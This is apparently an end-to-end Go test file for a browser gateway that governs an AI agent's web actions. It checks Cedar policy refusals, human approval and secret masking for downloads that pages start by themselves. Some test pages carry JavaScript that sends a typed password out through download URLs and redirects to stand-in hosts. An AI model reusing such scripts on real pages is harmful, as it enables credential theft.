package main

import (
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/browsergate/browsergate/evidence"
	"github.com/browsergate/browsergate/internal/testkit"
)

// autoDownloads is a page that starts three downloads by itself as it
// loads: a link it clicks (an attachment of the site's), a data: URL and
// a blob it made, 200 ms apart (when one script task started all three,
// Chromium 156 at times never began the third, a few loads in a hundred,
// reporting nothing of it). An image its site holds for a second
// (holdLoad) keeps the page loading until all three have begun, so that
// they begin during the call that loads it. Each file's name starts with
// prefix.
func autoDownloads(prefix string) string {
	return fmt.Sprintf(`<title>auto</title><a id=l href="/file?n=%[1]s-link.txt">file</a><img src="/held">
<script>
document.getElementById('l').click();
setTimeout(() => { const d = document.createElement('a'); d.href = 'data:text/plain,%[1]s%%20made%%20by%%20a%%20data%%20URL'; d.download = '%[1]s-data.txt'; document.body.append(d); d.click(); }, 200);
setTimeout(() => { const b = document.createElement('a'); b.href = URL.createObjectURL(new Blob(['%[1]s made by a blob'], {type: 'text/plain'})); b.download = '%[1]s-blob.txt'; document.body.append(b); b.click(); }, 400);
</script>`, prefix)
}

// holdLoad serves /held, an answer given a second late: a page with an
// image of it is still loading then.
func holdLoad(mux *http.ServeMux) {
	mux.HandleFunc("/held", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-time.After(time.Second):
		case <-r.Context().Done():
		}
		http.NotFound(w, r)
	})
}

// pageDownloadSite serves the pages of the page-download tests: /auto
// (autoDownloads("auto")), /fine (autoDownloads("fine")), /one (one
// attachment, by a link it clicks) and /file?n=NAME, an attachment named
// NAME.
func pageDownloadSite(t *testing.T) string {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/auto", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, autoDownloads("auto")) })
	holdLoad(mux)
	mux.HandleFunc("/fine", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, autoDownloads("fine")) })
	mux.HandleFunc("/one", func(w http.ResponseWriter, r *http.Request) {
		n := r.URL.Query().Get("n")
		fmt.Fprintf(w, `<title>one</title><a id=l href="/file?n=%s">file</a><script>document.getElementById('l').click()</script>`, n)
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		n := r.URL.Query().Get("n")
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="`+n+`"`)
		fmt.Fprint(w, "the bytes of "+n)
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	return site
}

// pageDownloadFixture starts serve with download declared (extra: more of
// its table) and the shipped policies plus policy (when given), and
// TMPDIR of its own, so that the sessions' staging directories can be
// looked into. It returns the fixture, the download directory and TMPDIR.
func pageDownloadFixture(t *testing.T, extra, policy string, serveArgs ...string) (*fixture, string, string) {
	t.Helper()
	dir := t.TempDir()
	down, tmp := filepath.Join(dir, "downloads"), filepath.Join(dir, "tmp")
	for _, d := range []string{down, tmp} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	policies := testkit.CopyPolicies(t)
	if policy != "" {
		testkit.WriteFile(t, policies, "test-downloads.cedar", policy)
	}
	f := startClientEnv(t, inputManifest()+fmt.Sprintf(`[browser.commands.download]
%s
[browser.files]
download_dir = %q
`, extra, down), nil, []string{"TMPDIR=" + tmp}, append([]string{"--policies", policies}, serveArgs...)...)
	return f, down, tmp
}

// staged lists the files in the sessions' download staging directories
// under tmp.
func staged(t *testing.T, tmp string) []string {
	t.Helper()
	var out []string
	dirs, _ := filepath.Glob(filepath.Join(tmp, "browsergate-files-*", "downloads-*"))
	for _, d := range dirs {
		_ = filepath.WalkDir(d, func(p string, e fs.DirEntry, err error) error {
			if err == nil && !e.IsDir() {
				out = append(out, p)
			}
			return nil
		})
	}
	return out
}

// dirNames lists a directory's entries.
func dirNames(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range entries {
		out = append(out, e.Name())
	}
	return out
}

// untilReplied calls snapshot until the replies so far (first: the
// reply that may already say it) hold every one of wants: what became of
// a page's downloads is told in the reply of the call they began in, or
// of a later one.
func (f *fixture) untilReplied(t *testing.T, first string, wants ...string) string {
	t.Helper()
	all := first
	// Long enough for an approval's timeout (pageDownloadApprovalTimeout).
	deadline := time.Now().Add(2 * time.Minute)
	for {
		missing := []string{}
		for _, w := range wants {
			if !strings.Contains(all, w) {
				missing = append(missing, w)
			}
		}
		if len(missing) == 0 {
			return all
		}
		if time.Now().After(deadline) {
			t.Fatalf("the replies do not say %q:\n%s", missing, all)
		}
		time.Sleep(200 * time.Millisecond)
		all += "\n" + f.mustAllow(t, "e2e.snapshot", nil)
	}
}

// pageDownloadRecords are the session's page_download records, and the
// seq of its navigate calls by URL path.
func pageDownloadRecords(t *testing.T, path string) ([]*evidence.Envelope, map[string]uint64) {
	t.Helper()
	var out []*evidence.Envelope
	navs := map[string]uint64{}
	for _, e := range readEnvelopes(t, path) {
		switch {
		case e.Kind == evidence.KindPageDownload:
			out = append(out, e)
		case e.Kind == "" && e.Command == "navigate":
			u, _ := e.Args["url"].(string)
			navs[u[strings.LastIndex(u, "/"):]] = e.Seq
		}
	}
	return out, navs
}

// TestPageDownloadsDecidedByCedar: a page that starts downloads by itself
// as it loads (a link it clicks, a data: URL, a blob) has each of them
// decided by Cedar as a download of its URL. A policy forbidding the
// downloads of one page refuses all three: none is saved, nothing is left
// in the staging directory, the reply of the navigate (or the next call)
// says each was refused at cedar, and each has a refused record of its
// own naming the policy and the navigate it began in; the data: URL's
// bytes are not in the evidence. The same downloads from another page are
// saved, each with an allowed record linked to its navigate.
func TestPageDownloadsDecidedByCedar(t *testing.T) {
	t.Parallel()
	f, down, tmp := pageDownloadFixture(t, "", `@id("no-downloads-from-auto")
forbid (principal, action == Web::Action::"browse", resource)
when { resource.command == "download" && resource.page_state.url like "*/auto" };
`)
	site := pageDownloadSite(t)

	out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/auto"})
	const refused = "refused at cedar (policy no-downloads-from-auto)"
	all := f.untilReplied(t, out, `("auto-link.txt") `+refused, `("auto-data.txt") `+refused, `("auto-blob.txt") `+refused)
	for _, line := range strings.Split(all, "\n") {
		// (A snapshot shows the page's own link, bytes and all.)
		if strings.HasPrefix(line, "download") && strings.Contains(line, "made%20by") {
			t.Errorf("a reply's word on a download holds the data: URL's bytes:\n%s", line)
		}
	}
	testkit.Eventually(t, func() string {
		if left := staged(t, tmp); len(left) > 0 {
			return fmt.Sprintf("refused downloads left in the staging directory: %q", left)
		}
		return ""
	})
	if names := dirNames(t, down); len(names) > 0 {
		t.Errorf("refused downloads were saved: %q", names)
	}

	out = f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/fine"})
	f.untilReplied(t, out, "saved as fine-link.txt", "saved as fine-data.txt", "saved as fine-blob.txt")
	for name, want := range map[string]string{"fine-link.txt": "the bytes of fine-link.txt", "fine-data.txt": "fine made by a data URL", "fine-blob.txt": "fine made by a blob"} {
		if b, err := os.ReadFile(filepath.Join(down, name)); err != nil || string(b) != want {
			t.Errorf("%s = %q, %v; want %q", name, b, err, want)
		}
	}

	f.cs.Close()
	recs, navs := pageDownloadRecords(t, f.evidence)
	byName := map[string]*evidence.Envelope{}
	for _, e := range recs {
		if len(e.Files) != 1 {
			t.Fatalf("page_download record %d lists %d files, want 1: %+v", e.Seq, len(e.Files), e.Files)
		}
		byName[e.Files[0].Name] = e
		if strings.Contains(e.Files[0].URL, "made%20by") || strings.Contains(fmt.Sprint(e.Args), "made%20by") {
			t.Errorf("record %d holds the data: URL's bytes: %v %+v", e.Seq, e.Args, e.Files[0])
		}
	}
	if len(recs) != 6 {
		t.Errorf("%d page_download records, want 6: %v", len(recs), byName)
	}
	for _, kind := range []string{"link", "data", "blob"} {
		e := byName["auto-"+kind+".txt"]
		if e == nil {
			t.Errorf("no record of auto-%s.txt", kind)
			continue
		}
		d := e.Decision
		if d.Allowed || d.Stage != evidence.StageCedar || d.Rule != "policy no-downloads-from-auto" || len(d.PolicyIDs) != 1 || d.PolicyIDs[0] != "no-downloads-from-auto" ||
			e.Command != "download" || e.Files[0].Refused == "" || e.CallSeq != navs["/auto"] || e.CallSeq == 0 || e.BetweenCalls {
			t.Errorf("record of auto-%s.txt: call_seq %d (navigate /auto is %d), between %v, command %q, decision %+v, file %+v",
				kind, e.CallSeq, navs["/auto"], e.BetweenCalls, e.Command, d, e.Files[0])
		}
		e = byName["fine-"+kind+".txt"]
		if e == nil {
			t.Errorf("no record of fine-%s.txt", kind)
			continue
		}
		if d := e.Decision; !d.Allowed || d.Cedar != "allow" || e.Files[0].Refused != "" || e.Files[0].SHA256 == "" || e.CallSeq != navs["/fine"] || e.CallSeq == 0 {
			t.Errorf("record of fine-%s.txt: call_seq %d (navigate /fine is %d), decision %+v, file %+v", kind, e.CallSeq, navs["/fine"], d, e.Files[0])
		}
	}
	if u, _ := byName["auto-data.txt"].Args["url"].(string); !strings.HasPrefix(u, "data:text/plain,[") || !strings.Contains(u, "sha256 ") {
		t.Errorf("the data: download's url as recorded: %q", u)
	}
	if u, _ := byName["auto-blob.txt"].Args["url"].(string); !strings.HasPrefix(u, "blob:"+site+"/") {
		t.Errorf("the blob download's url as recorded: %q", u)
	}
	if out, code := runBinary(t, "evidence", "verify", "--evidence", f.evidence); code != 0 {
		t.Errorf("evidence verify: %s", out)
	}
}

// pageDownloadApprovalTimeout is serve's --approval-timeout in
// TestPageDownloadsHeldForApproval: long enough for `approvals approve`
// on a loaded machine (it took 16 s on one), short enough to wait for.
const pageDownloadApprovalTimeout = "45s"

// TestPageDownloadsHeldForApproval: with human_approval on download, a
// download a page starts waits for a human: the navigate's reply says
// so, and nothing reaches the download directory. Approved with
// `browsergate approvals approve`, it is saved and recorded as approved,
// linked to the navigate. Denied, or not answered in time, nothing of it
// remains, in the staging directory or the download directory, and its
// record says it was refused at approval.
func TestPageDownloadsHeldForApproval(t *testing.T) {
	t.Parallel()
	f, down, tmp := pageDownloadFixture(t, "human_approval = true", "", "--approval-timeout", pageDownloadApprovalTimeout)
	site := pageDownloadSite(t)
	held := func(name string) string {
		t.Helper()
		out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/one?n=" + name})
		f.untilReplied(t, out, `("`+name+`") is waiting for a human's approval`)
		var id string
		testkit.Eventually(t, func() string {
			list, err := f.approvals(t, "list")
			for _, line := range strings.Split(list, "\n") {
				if strings.HasPrefix(line, "apr-") {
					id = strings.Fields(line)[0]
				}
			}
			if err != nil || id == "" || !strings.Contains(list, "a download the page started by itself") || !strings.Contains(list, name) {
				return fmt.Sprintf("approvals list does not show the download (%v):\n%s", err, list)
			}
			return ""
		})
		if names := dirNames(t, down); slices.Contains(names, name) {
			t.Errorf("a download waiting for approval reached the download directory: %q", names)
		}
		return id
	}

	id := held("approved.txt")
	if out, err := f.approvals(t, "approve", id, "--by", "alice"); err != nil {
		t.Fatalf("approve: %v\n%s", err, out)
	}
	f.untilReplied(t, "", "saved as approved.txt")
	if b, err := os.ReadFile(filepath.Join(down, "approved.txt")); err != nil || string(b) != "the bytes of approved.txt" {
		t.Errorf("approved.txt = %q, %v", b, err)
	}

	id = held("denied.txt")
	if out, err := f.approvals(t, "deny", id, "--by", "bob"); err != nil {
		t.Fatalf("deny: %v\n%s", err, out)
	}
	f.untilReplied(t, "", `("denied.txt") refused at approval (approval operator)`)

	held("unanswered.txt")
	f.untilReplied(t, "", `("unanswered.txt") refused at approval (approval timeout)`)
	testkit.Eventually(t, func() string {
		if left := staged(t, tmp); len(left) > 0 {
			return fmt.Sprintf("refused downloads left in the staging directory: %q", left)
		}
		return ""
	})
	if names := dirNames(t, down); len(names) != 1 {
		t.Errorf("the download directory holds %q, want approved.txt only", names)
	}

	f.cs.Close()
	recs, navs := pageDownloadRecords(t, f.evidence)
	if len(recs) != 3 {
		t.Fatalf("%d page_download records, want 3", len(recs))
	}
	for _, e := range recs {
		name, a := e.Files[0].Name, e.Decision.Approval
		if e.CallSeq == 0 || e.CallSeq != navs["/one?n="+name] || a == nil {
			t.Errorf("record of %s: call_seq %d (navigate %d), approval %+v", name, e.CallSeq, navs["/one?n="+name], a)
			continue
		}
		switch name {
		case "approved.txt":
			if !e.Decision.Allowed || !a.Approved || a.Channel != "operator" || !strings.HasPrefix(a.By, "alice") || e.Files[0].SHA256 == "" {
				t.Errorf("record of approved.txt: decision %+v, approval %+v, file %+v", e.Decision, a, e.Files[0])
			}
		case "denied.txt", "unanswered.txt":
			channel := map[string]string{"denied.txt": "operator", "unanswered.txt": "timeout"}[name]
			if e.Decision.Allowed || e.Decision.Stage != evidence.StageApproval || a.Approved || a.Channel != channel || e.Files[0].Refused == "" {
				t.Errorf("record of %s: decision %+v, approval %+v, file %+v", name, e.Decision, a, e.Files[0])
			}
		default:
			t.Errorf("a record of %s", name)
		}
	}
}

// TestLivePageDownloadsAreDecidedByCedar: in the user's own browser, the
// downloads a page starts by itself (a link it clicks, a data: URL, a
// blob) are decided by Cedar as in a browser of browsergate's: in the
// session's own tab, and in a user's tab whose adoption reload starts
// them (the page downloads only when reloaded). A policy forbidding the
// downloads of /auto refuses every one, each with a record; none is
// saved, in download_dir, the staging directory or the user's download
// folder.
func TestLivePageDownloadsAreDecidedByCedar(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	dir := t.TempDir()
	down, tmp, xdg := filepath.Join(dir, "downloads"), filepath.Join(dir, "tmp"), filepath.Join(dir, "xdg")
	for _, d := range []string{down, tmp, xdg} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	policies := testkit.CopyPolicies(t)
	testkit.WriteFile(t, policies, "test-downloads.cedar", `@id("no-downloads-from-auto")
forbid (principal, action == Web::Action::"browse", resource)
when { resource.command == "download" && resource.page_state.url like "*/auto*" };
`)
	f := startClientEnv(t, fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint))+fmt.Sprintf(`[browser.commands.download]
[browser.files]
download_dir = %q
`, down), nil, []string{"TMPDIR=" + tmp, "XDG_DOWNLOAD_DIR=" + xdg}, "--policies", policies)
	mux := http.NewServeMux()
	mux.HandleFunc("/auto", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, autoDownloads("auto")) })
	holdLoad(mux)
	mux.HandleFunc("/auto-on-reload", func(w http.ResponseWriter, r *http.Request) {
		// autoDownloads("reload"), only when reloaded.
		page := strings.Replace(autoDownloads("reload"), "<script>",
			"<script>if (performance.getEntriesByType('navigation')[0].type === 'reload') {", 1)
		fmt.Fprint(w, strings.Replace(page, "</script>", "}</script>", 1))
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="`+r.URL.Query().Get("n")+`"`)
		fmt.Fprint(w, "bytes")
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	const refused = "refused at cedar (policy no-downloads-from-auto)"
	out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/auto"})
	f.untilReplied(t, out, `("auto-link.txt") `+refused, `("auto-data.txt") `+refused, `("auto-blob.txt") `+refused)
	usersTab(t, endpoint, site+"/auto-on-reload")
	tab := f.waitListed(t, "/auto-on-reload")
	out = f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": tab})
	// The blob download of the reload is not awaited: Chromium may hold a
	// tab's third automatic download of a site that already made three
	// (its multiple-downloads prompt, which a headless browser leaves
	// unanswered), and then it never starts. Whatever starts is refused.
	f.untilReplied(t, out, `("reload-link.txt") `+refused, `("reload-data.txt") `+refused)
	testkit.Eventually(t, func() string {
		if left := staged(t, tmp); len(left) > 0 {
			return fmt.Sprintf("refused downloads left in the staging directory: %q", left)
		}
		return ""
	})
	for _, d := range []string{down, xdg} {
		if names := dirNames(t, d); len(names) > 0 {
			t.Errorf("refused downloads were saved in %s: %q", d, names)
		}
	}
	f.cs.Close()
	recs, _ := pageDownloadRecords(t, f.evidence)
	// Five records are awaited above; the reload's blob has one only if
	// Chromium started it.
	want := map[string]bool{"auto-link.txt": true, "auto-data.txt": true, "auto-blob.txt": true,
		"reload-link.txt": true, "reload-data.txt": true}
	for _, e := range recs {
		if e.Decision.Allowed || e.Decision.Stage != evidence.StageCedar {
			t.Errorf("record %d of %v: %+v", e.Seq, e.Files, e.Decision)
		}
		if len(e.Files) != 1 {
			t.Errorf("record %d lists %d files, want 1: %+v", e.Seq, len(e.Files), e.Files)
			continue
		}
		switch name := e.Files[0].Name; {
		case want[name]:
			delete(want, name)
		case name == "reload-blob.txt":
		default:
			t.Errorf("record %d of %s: a download not started, or recorded twice", e.Seq, name)
		}
	}
	if len(want) > 0 {
		t.Errorf("no page_download record of %v (records: %d)", want, len(recs))
	}
}

// TestPageDownloadCannotCarryTheSecret: after the secret is typed, the
// field's page starts downloads by itself whose URLs carry the value: to
// a host in the scope but outside the secret's domains (127.0.0.3), to
// the canary outside the scope, and by a form with a download response.
// Neither the other host nor the canary sees the value, and the replies
// do not show it to the agent in any encoding the URLs carry it in.
func TestPageDownloadCannotCarryTheSecret(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	down := t.TempDir()
	manifest := liveSecretFilesManifest(endpoint, "download", "download_dir", down)
	f := startWith(t, manifest)
	var mu sync.Mutex
	var other []string
	xhost, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		other = append(other, r.URL.String())
		mu.Unlock()
		w.Header().Set("Content-Disposition", `attachment; filename="x.txt"`)
		fmt.Fprint(w, "x")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopX)
	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redir" {
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			return
		}
		if r.URL.Path == "/file" {
			w.Header().Set("Content-Disposition", `attachment; filename="own.txt"`)
			fmt.Fprint(w, "own")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<title>form</title><input type=password id=pw aria-label=Password>
<form id=f method=GET target=_self><input name=pw id=h></form><script>
const dl = (href, name) => { const a = document.createElement('a'); a.href = href; a.download = name; document.body.append(a); a.click(); };
let done = false;
document.getElementById('pw').addEventListener('input', e => {
  const v = e.target.value;
  if (done || v.length < 10) return;
  done = true;
  const steps = [
    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r.txt'),
    () => dl('/redir?to=' + encodeURIComponent(%[2]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r2.txt'),
    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r3.txt'),
    () => dl(%[1]q + '/dl?pw=' + encodeURIComponent(v), 'a.txt'),
    () => dl(%[2]q + '/dl?pw=' + encodeURIComponent(v), 'b.txt'),
    () => { const f = document.getElementById('f'); f.action = %[1]q + '/form'; document.getElementById('h').value = v; f.submit(); },
  ];
  // The first during the type_text (its acting guard stops it), the
  // others once the call has returned, between calls.
  // The first during the type_text (its acting guard stops it); on
  // ?later=N step N, once the call has returned, between calls (each
  // takes the tab away, to a download's navigation or a refusal).
  const later = Number(new URLSearchParams(location.search).get('later'));
  if (!later) steps[0]();
  else setTimeout(steps[later], 2500);
});
</script>`, xhost, f.canaryTo)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopSite)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	t.Logf("type_text:\n%s", out)
	// The refusal names a URL that carries the value encoded twice (a URL
	// in the site's redirect parameter): the agent gets none of it.
	if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(out, twice[len(twice)/2:]) {
		t.Errorf("the reply shows the value's second half, percent-encoded twice:\n%s", out)
	}
	for n := 1; n <= 5; n++ {
		f.mustAllow(t, "e2e.navigate", map[string]any{"url": fmt.Sprintf("%s/form?later=%d", site, n)})
		out, _ = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
		time.Sleep(4 * time.Second)
		later, _ := f.call(t, "e2e.snapshot", nil)
		t.Logf("step %d: type_text:\n%s\nsnapshot:\n%s", n, out, later)
		if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(later, twice[len(twice)/2:]) {
			t.Errorf("the snapshot shows the value's second half, percent-encoded twice:\n%s", later)
		}
	}
	f.canaryHasSecret(t, "the page's downloads after the secret")
	t.Logf("list_tabs: %s", f.mustAllow(t, "e2e.list_tabs", nil))
	mu.Lock()
	defer mu.Unlock()
	for _, u := range other {
		if strings.Contains(u, "pw=") {
			t.Errorf("the host outside the secret's domains saw %s", u)
		}
	}
	t.Logf("127.0.0.3 saw %q", other)
}

// TestPageDownloadNamedByTheSecretIsMasked: after the secret is typed, the
// page saves a blob download named by the value and holding it. The
// agent's replies and the evidence do not show the value in the file's
// name (the masker's runs). What a page transforms beyond the spellings
// the masker reads (here punctuation made "_", leaving runs under six
// characters) and the file's SHA-256 and size, which the reply gives, are
// the page's own choice of what to show: a page that has the value can
// always show it transformed.
func TestPageDownloadNamedByTheSecretIsMasked(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	down := t.TempDir()
	f := startWith(t, liveSecretFilesManifest(endpoint, "download", "download_dir", down))
	site, _ := serveLogged(t, map[string]string{
		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
let done = false;
document.getElementById('pw').addEventListener('input', e => {
  const v = e.target.value;
  if (done || v.length < 24) return;
  done = true;
  setTimeout(() => {
    const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([v])); a.download = 'pw-' + v.replace(/[^A-Za-z0-9-]/g, '_') + '.txt';
    document.body.append(a); a.click();
  }, 100);
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	time.Sleep(2 * time.Second)
	later, _ := f.call(t, "e2e.snapshot", nil)
	t.Logf("type_text:\n%s\nsnapshot:\n%s\nsaved: %q", out, later, dirNames(t, down))
	for _, text := range []string{out, later} {
		if strings.Contains(text, "Sup3r-S3cret") {
			t.Errorf("a reply shows the value in the download's name:\n%s", text)
		}
	}
	f.cs.Close()
	recs, _ := pageDownloadRecords(t, f.evidence)
	for _, e := range recs {
		if strings.Contains(fmt.Sprint(e.Files, e.Args, e.Output), "Sup3r-S3cret") {
			t.Errorf("record %d shows the value: %v %v %q", e.Seq, e.Files, e.Args, e.Output)
		}
	}
}

// TestADownloadNoteOutlivesARefusal: a download the page starts
// and ends between calls is told of in the next reply that shows a
// command's output; a refused call's reply, which shows none, leaves the
// note for the one after it.
func TestADownloadNoteOutlivesARefusal(t *testing.T) {
	t.Parallel()
	f, down, _ := pageDownloadFixture(t, "", "")
	mux := http.NewServeMux()
	mux.HandleFunc("/late", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<title>late</title><a id=l href="/file">file</a><script>setTimeout(() => document.getElementById('l').click(), 500)</script>`)
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="late.txt"`)
		fmt.Fprint(w, "late bytes")
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/late"})
	testkit.Eventually(t, func() string {
		if names := dirNames(t, down); len(names) != 1 {
			return fmt.Sprintf("the download directory holds %q, want late.txt", names)
		}
		return ""
	})
	f.mustRefuse(t, "e2e.navigate", map[string]any{"url": "http://outside.example/"}, "not in allowed_domains")
	if out := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(out, "saved as late.txt") {
		t.Errorf("the reply after the refusal does not tell of the download:\n%s", out)
	}
}
